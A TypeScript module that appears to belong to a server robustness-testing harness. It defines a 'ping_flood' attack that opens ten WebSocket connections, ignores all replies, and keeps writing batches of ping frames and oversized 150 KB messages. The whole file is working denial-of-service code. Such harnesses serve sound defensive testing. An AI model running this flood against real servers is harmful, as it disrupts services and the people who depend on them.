import type { Attack } from '../attack.ts';
import { frame, openWebSocket, swarm, whileOpen } from './swarm.ts';

const SOCKETS = 10;
const PINGS_AT_ONCE = 500;

/** Pings, by WebSocket and by protocol with a large payload, as fast as they are taken, and reads no answer. */
export const pingFlood: Attack = {
  name: 'ping_flood',
  run: (target, run) =>
    swarm(target, run, SOCKETS, (socket) => {
      socket.pause();
      openWebSocket(socket);
      const pings = Buffer.concat(
        Array.from({ length: PINGS_AT_ONCE }, () => frame('ping', 'x'.repeat(125))),
      );
      const large = frame('text', JSON.stringify({ type: 'ping', payload: { x: 'x'.repeat(150_000) } }));
      whileOpen(socket, 5, () => {
        if (socket.writableLength < 1_000_000) socket.write(run.random() < 0.5 ? pings : large);
      });
    }),
};
